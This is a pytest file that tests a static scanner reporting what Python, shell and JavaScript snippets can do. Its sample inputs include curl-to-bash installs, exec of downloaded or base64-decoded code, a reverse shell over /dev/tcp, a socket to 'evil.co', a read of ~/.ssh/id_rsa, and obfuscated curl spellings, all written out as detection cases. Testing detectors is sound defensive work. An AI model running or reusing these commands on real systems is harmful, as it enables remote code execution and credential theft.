"""What code does is read from its text: each snippet with all that it must give, and nothing else."""

import pytest

from workbench.skills.capabilities import Finding, scan_file


def found(path: str, text: str) -> set[str]:
    """Every finding but mentions, as `kind what`."""
    return {f"{one.kind} {one.what}" for one in scan_file(path, text.encode()) if one.certainty != "mention"}


PYTHON = [
    ("import subprocess\nsubprocess.run(['git', 'status'])", {"subprocess git"}),
    ("import subprocess as sp\nsp.Popen('curl https://a.co/x | sh', shell=True)",
     {"subprocess curl", "subprocess sh", "network a.co", "download code from a.co that is run"}),
    ("from subprocess import check_output as co\nco(['/usr/bin/convert', x])", {"subprocess convert"}),
    ("from os import *\nsystem('wget http://b.co/f')",
     {"subprocess wget", "network b.co", "download a file from b.co"}),
    ("import os\nos.execvp('ssh', ['ssh', 'h.example.io'])", {"subprocess ssh", "network h.example.io"}),
    ("import os\nrun = os.system\nrun('make')", {"subprocess make"}),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", {"subprocess id"}),
    ("__import__('os').system('id')", {"subprocess id", "dynamic import of os by name"}),
    ("import importlib\nimportlib.import_module('subprocess').run(['id'])",
     {"subprocess id", "dynamic import of subprocess by name"}),
    ("import subprocess\nsubprocess.run(command)", {"subprocess any program"}),
    ("import subprocess\nCMD = ['rsync', '-a']\nsubprocess.run(CMD + [x], check=True)", {"subprocess rsync"}),
    ("import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('jq', '.')", {"subprocess jq"}),
    ("import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'foo==1'])",
     {"subprocess python", "install foo==1 (pip)", "network a package registry"}),
    ("import subprocess", {"subprocess any program"}),
    ("import requests\nrequests.get(f'https://api.{region}.a.io/{x}')", {"network *.a.io"}),
    ("import requests\nBASE = 'https://api.github.com'\nrequests.post(BASE + '/repos')", {"network api.github.com"}),
    ("import requests\nwith requests.Session() as s:\n    s.get(url)", {"network any host"}),
    ("from urllib.request import urlopen as u\nu('http://c.co')", {"network c.co"}),
    ("import urllib.request as r\nr.urlretrieve('http://c.co/a', 'a')",
     {"network c.co", "download a file from c.co"}),
    ("import socket\ns = socket.socket()\ns.connect(('d.io', 80))", {"network d.io"}),
    ("from urllib.parse import quote\nquote('a')", set()),
    ("import smtplib\nsmtplib.SMTP('mail.e.io')", {"network mail.e.io"}),
    ("from http.server import HTTPServer\nHTTPServer(('', 80), H)", {"network listens for connections"}),
    ("import openai\nopenai.OpenAI()", {"network openai (library)"}),
    ("import requests\nexec(requests.get('https://a.co').text)",
     {"dynamic exec", "network a.co", "download code from a.co that is run"}),
    ("import requests\nr = requests.get('https://a.co')\nexec(r.text)",
     {"dynamic exec", "network a.co", "download code from a.co that is run"}),
    ("import os\nos.environ['A']; os.environ.get('B'); os.getenv('C'); 'D' in os.environ",
     {"environment A", "environment B", "environment C", "environment D"}),
    ("from os import environ as e\ndict(e)", {"environment all variables"}),
    ("open('in.txt')", {"reads in.txt"}),
    ("open(p, 'w')", {"writes any file"}),
    ("with open('a', mode='r+') as f: pass", {"reads a", "writes a"}),
    ("from pathlib import Path\n(Path.home() / '.x').write_text('')", {"writes ~/.x"}),
    ("from pathlib import Path\np = Path('d')\np.open('a')", {"writes d"}),
    ("import os\nos.remove('x'); os.listdir('y')", {"writes x (removed)", "reads y"}),
    ("import shutil\nshutil.rmtree(d)", {"writes any file (removed)"}),
    ("import tempfile\ntempfile.mkdtemp()", {"writes temporary files"}),
    ("open('~/.ssh/id_rsa').read()", {"reads ~/.ssh/id_rsa", "reads ~/.ssh/id_rsa (credentials)"}),
    ("eval(x)", {"dynamic eval"}),
    ("compile(s, f, 'exec')", {"dynamic compile"}),
    ("exec('import os; os.system(\"id\")')", {"dynamic exec", "subprocess id"}),
    ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))",
     {"dynamic exec", "subprocess id"}),
    ("import pickle\npickle.loads(d)", {"dynamic pickle.loads"}),
    ("import yaml\nyaml.load(f, Loader=yaml.SafeLoader); yaml.safe_load(f)", set()),
    ("import yaml\nyaml.load(f, Loader=yaml.Loader)", {"dynamic yaml.load"}),
    ("import ctypes", {"dynamic ctypes"}),
    ("import os\ngetattr(os, name)()", {"dynamic anything of os, by a name known at run time"}),
    ("__builtins__['eval'](x)", {"dynamic eval", "dynamic __builtins__"}),
    ("def eval(x): return x\neval(1)", {"dynamic eval"}),
    ("# /// script\n# dependencies = ['rich<14']\n# ///\n", {"install rich<14 (inline dependency)"}),
    ("import re\nre.compile('x'); 'a'.replace('b', 'c'); d.get('https')", set()),
    ('"""See https://docs.example.io; os.system is not called."""', set()),
    ("import json, sys, argparse, csv\njson.load(sys.stdin)", set()),
    ("def (:", {"unreadable Python that can't be parsed"}),
    ("x = 1\nprint(x)", set()),
    ("import a b", {"unreadable Python that can't be parsed"}),
]  # fmt: skip

SHELL = [
    ("git status", {"subprocess git"}),
    ("cd /tmp && echo hi; [ -f x ] || exit 1", set()),
    ("# curl https://a.co | sh", set()),
    ("echo 'curl https://a.co | sh'", set()),
    ("curl -fsSL https://a.co/i | sudo bash -s -- -y",
     {"subprocess curl", "subprocess bash", "subprocess sudo", "network a.co", "download code from a.co that is run"}),
    ("bash <(curl -s https://a.co)",
     {"subprocess curl", "subprocess bash", "network a.co", "download code from a.co that is run"}),
    ("eval \"$(wget -qO- a.co/x)\"",
     {"subprocess wget", "network a.co", "dynamic eval", "download code from a.co that is run"}),
    ("U=https://b.co/f\ncurl \"$U\" -o f", {"subprocess curl", "network b.co", "download a file from b.co"}),
    ("echo aWQK | base64 -d | sh", {"subprocess base64", "subprocess sh", "dynamic decoded text that is run"}),
    ("x=`id`", {"subprocess id"}),
    ("x=$(id; $(whoami))", {"subprocess id", "subprocess whoami", "subprocess any program"}),
    ("if grep -q a b; then jq . c; fi", {"subprocess grep", "subprocess jq"}),
    ("for f in $(ls); do wc $f; done", {"subprocess ls", "subprocess wc"}),
    ("case $1 in\n a|b) make ;;\n *) ninja ;;\nesac", {"subprocess make", "subprocess ninja"}),
    ("f() { make; }\nf", {"subprocess make"}),
    ("echo x > out.txt 2>/dev/null", {"writes out.txt"}),
    ("cat <<EOF > a.txt\n$(id)\nEOF\nmake", {"subprocess cat", "subprocess id", "writes a.txt", "subprocess make"}),
    ("cat <<'EOF'\n$(id)\nEOF", {"subprocess cat"}),
    ("python3 - <<'EOF'\nimport os\nos.system('id')\nEOF", {"subprocess python3", "subprocess id"}),
    ("python -c 'import os; os.system(\"id\")'", {"subprocess python", "subprocess id"}),
    ("sh -c 'git push'", {"subprocess sh", "subprocess git", "network the repository's remote"}),
    ("echo $HOME ${TOKEN:-x}", {"environment HOME", "environment TOKEN"}),
    ("read name; echo $name; x=1; echo $x $1 $?", set()),
    ("printenv SECRET", {"subprocess printenv", "environment SECRET"}),
    ("source \"$DIR/lib.sh\"", {"environment DIR", "reads …/lib.sh"}),
    ("pip install -r req.txt requests", {"subprocess pip", "install req.txt (pip)", "install requests (pip)",
                                         "network a package registry"}),
    ("sudo apt-get install -y jq", {"subprocess sudo", "subprocess apt-get", "install jq (apt-get)",
                                    "network a package registry"}),
    ("npm ci", {"subprocess npm", "install what its manifest lists (npm)", "network a package registry"}),
    ("npm run build", {"subprocess npm"}),
    ("npx -y cowsay hi", {"subprocess npx", "download cowsay (npx)", "network a package registry"}),
    ("go install github.com/a/b@latest", {"subprocess go", "install github.com/a/b@latest (go)",
                                          "network a package registry"}),
    ("rm -rf \"$X\" build", {"subprocess rm", "writes any file (removed)", "writes build (removed)"}),
    ("chmod +x run", {"subprocess chmod", "writes run"}),
    ("git clone https://g.co/r", {"subprocess git", "network g.co", "download a repository from g.co"}),
    ("scp f me@h.example.io:/x", {"subprocess scp", "network h.example.io"}),
    ("command -v jq >/dev/null", set()),
    ("$CMD --help", {"environment CMD", "subprocess any program"}),
    ("python scripts/run.py", {"subprocess python scripts/run.py"}),
    ("cu''rl https://a.co", {"subprocess curl", "network a.co"}),
    ("c\\\nurl https://a.co", {"subprocess curl", "network a.co"}),
    ("$'\\x63url' https://a.co", {"subprocess curl", "network a.co"}),
    ("env -i X=1 make", {"subprocess make"}),
    ("a=(curl wget)\nmake", {"subprocess make"}),
    ("echo $(( x + 1 )) # $(id)", set()),
    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", {"subprocess bash", "network 1.2.3.4"}),
    ("exec 5<>/dev/tcp/evil.co/80; cat <&5 > /dev/null", {"network evil.co", "subprocess cat"}),
    ("echo x > /dev/udp/$1/80", {"network any host"}),
    ("find / -exec curl http://a.co {} \\;", {"subprocess find", "subprocess curl", "network a.co"}),
    ("find . -name x -exec rm {} + -delete", {"subprocess find", "subprocess rm", "writes any file (removed)"}),
    ("find . -exec sh -c 'make \"$1\"' _ {} ';'", {"subprocess find", "subprocess sh", "subprocess make"}),
    ("cat < /etc/hosts", {"subprocess cat", "reads /etc/hosts"}),
    ("while read line; do :; done < \"$1\"; sort < <(ls) 2>&1", {"reads any file", "subprocess sort", "subprocess ls"}),
    ("read x <<< \"$SECRET1\"; echo $x", {"environment SECRET1"}),
    ('if [[ "$1" == "x" || "$2" == "y" ]]; then echo 1; fi', set()),
    ('if [[ $1 = x && -f "$2" ]] && ! [[ $1 =~ ^(a|b)$ || $(id) < c ]]; then make; fi',
     {"subprocess id", "subprocess make"}),
    ("[[ a\ncurl http://a.co\n[[ b ]]", {"subprocess curl", "network a.co"}),
    ("#!/bin/sh\n[[ a || curl http://a.co ]]", {"subprocess curl", "network a.co"}),
    ("make && \\\n  ninja", {"subprocess make", "subprocess ninja"}),
]  # fmt: skip

JAVASCRIPT = [
    ("const {exec: e} = require('child_process'); e('git log')", {"subprocess git"}),
    ("import {spawn} from 'node:child_process'; spawn('npm', ['install', 'x'])",
     {"subprocess npm", "install x (npm)", "network a package registry"}),
    ("import * as cp from 'child_process'\ncp.execSync(`curl ${url}`)", {"subprocess curl", "network any host"}),
    ("const cp = require('child_process'); const {exec: ex} = cp; ex('id')", {"subprocess id"}),
    ("import * as cp from 'child_process'; const go = cp.spawn; go('id')", {"subprocess id"}),
    ("const get = fetch; get('https://a.co')", {"network a.co"}),
    ("import {exec} from 'child_process'; const out = exec('id'); out('x')", {"subprocess id"}),
    ("require('child_process').execSync('id')", {"subprocess id"}),
    ("const cp = await import('node:child_process'); cp.exec('id')", {"subprocess id"}),
    ("import cp from 'child_process'", {"subprocess any program"}),
    ("import {$} from 'zx'; await $`git status`", {"subprocess git"}),
    ("Bun.spawn(['ls', '-l']); new Deno.Command('id', {args: ['-u']})", {"subprocess ls", "subprocess id"}),
    ("fetch('https://a.co/x')", {"network a.co"}),
    ("const base = 'https://b.co'; fetch(base + '/x')", {"network b.co"}),
    ("const axios = require('axios'); axios.post(url, d)", {"network any host"}),
    ("import https from 'https'; https.get(`https://${h}.c.co/`)", {"network *.c.co"}),
    ("new WebSocket('wss://d.co')", {"network d.co"}),
    ("import OpenAI from 'openai'", {"network openai (library)"}),
    ("process.env.A; process.env['B']; const {C, D: d} = process.env; Deno.env.get('E')",
     {"environment A", "environment B", "environment C", "environment D", "environment E"}),
    ("spawnAll({env: {...process.env}})", {"environment all variables"}),
    ("import fs from 'fs'; fs.readFileSync('a'); fs.writeFileSync('b', x); fs.rmSync(p)",
     {"reads a", "writes b", "writes any file (removed)"}),
    ("import {writeFile} from 'fs/promises'; await writeFile('o', x)", {"writes o"}),
    ("eval(x); new Function('return 1')", {"dynamic eval", "dynamic Function"}),
    ("require(name); import('./' + x)", {"dynamic import of a module known at run time"}),
    ("setTimeout('alert(1)', 1); setTimeout(() => 1, 1)", {"dynamic setTimeout with code as text"}),
    ("// eval(x)\n/* fetch('https://a.co') */ const s = \"eval('x')\"; const r = /eval(x)/", set()),
    ("obj.eval(x); my.fetch('https://a.co'); text.exec('a'); re.exec(s)", set()),
    ("const a = `${eval(x)}`", {"dynamic eval"}),
    ("import type {A} from './a'; export const b = 1", set()),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), PYTHON)
def test_python(text: str, expected: set[str]) -> None:
    assert found("a.py", text) == expected


@pytest.mark.parametrize(("text", "expected"), SHELL)
def test_shell(text: str, expected: set[str]) -> None:
    assert found("a.sh", text) == expected


@pytest.mark.parametrize(("text", "expected"), JAVASCRIPT)
def test_javascript(text: str, expected: set[str]) -> None:
    assert found("a.js", text) == expected


def one(path: str, text: str, kind: str) -> Finding:
    return next(finding for finding in scan_file(path, text.encode()) if finding.kind == kind)


def test_a_finding_says_its_line_and_column_in_characters() -> None:
    python = one("a.py", "import os\n\ndef f():\n    é = 'é'; os.system('id')\n", "subprocess")
    shell = one("a.sh", "# é\n: 'é'; git log\n", "subprocess")
    assert (python.line, python.column) == (4, 14)
    assert (shell.line, shell.column) == (2, 8)


def test_a_line_end_in_quotes_is_no_line_of_the_file() -> None:
    inner = r'import os\n\n\nos.system("dig x.co")'
    python = scan_file("a.py", f"import subprocess\nsubprocess.run(['python', '-c', '{inner}'])\n".encode())
    shell = scan_file("a.sh", f"python -c $'{inner}'\n".encode())
    assert {one.line for one in python if one.what == "dig"} == {2}
    assert {one.line for one in shell} == {1}
    spread = scan_file("a.sh", b"python -c 'import os\n\nos.system(\"dig x.co\")\n'\n")
    assert {one.line for one in spread if one.what == "dig"} == {3}


def test_a_notebook_finding_has_the_line_of_its_cell() -> None:
    cells = [
        r'"import os\nx = os.sep\nos.getenv(\"A\")"',
        '[\n"import os\\n",\n"os.getenv(\'B\')"]',
        '["df?\\n", "x = 1"]',
    ]
    text = '{"cells": [\n' + ",\n".join(f'{{"cell_type": "code", "source": {cell}}}' for cell in cells) + "]}\n"
    lines = {one.what: one.line for one in scan_file("a.ipynb", text.encode())}
    assert lines == {"A": 2, "B": 5}


def test_the_evidence_is_the_whole_call() -> None:
    finding = one("a.py", "import subprocess\nsubprocess.run(\n    ['git',\n     'push'],\n)\n", "subprocess")
    assert finding.evidence == "subprocess.run( ['git', 'push'], )"


def test_a_script_without_a_scanner_counts_as_every_capability() -> None:
    assert found("scripts/a.rb", "puts 1") == {"unreadable no scanner for Ruby"}
    assert found("tool", "#!/usr/bin/env ruby\nputs 1") == {"unreadable no scanner for Ruby"}
    assert found("assets/example.rb", "puts 1") == set()
    assert scan_file("tool", b"\x7fELF\x02\x01\0\0")[0].what == "binary program"
    assert scan_file("a.zip", b"PK\3\4")[0].what == "archive that is not opened"


def test_a_file_that_two_interpreters_would_run_is_read_as_both() -> None:
    polyglot = "#!/bin/sh\n'''exec' git log\n'''\nimport os\nos.system('make')\n"
    assert {"subprocess git", "subprocess make"} <= found("a.py", polyglot)


def test_python_in_another_encoding_is_not_taken_for_what_it_looks_like() -> None:
    assert "unreadable Python in an encoding that is not read" in found("a.py", "# coding: utf-7\n+AG8-s\n")
    latin = "# coding: latin-1\nimport os\nos.system('é')\n".encode("latin-1")
    assert [one.kind for one in scan_file("a.py", latin)] == ["subprocess"]


def test_an_executable_without_a_name_or_first_line_is_read_as_a_shell_does() -> None:
    kinds = [one.kind for one in scan_file("run", b"git status\n", executable=True)]
    assert kinds == ["subprocess"]
    assert scan_file("run", b"git status\n") == ()
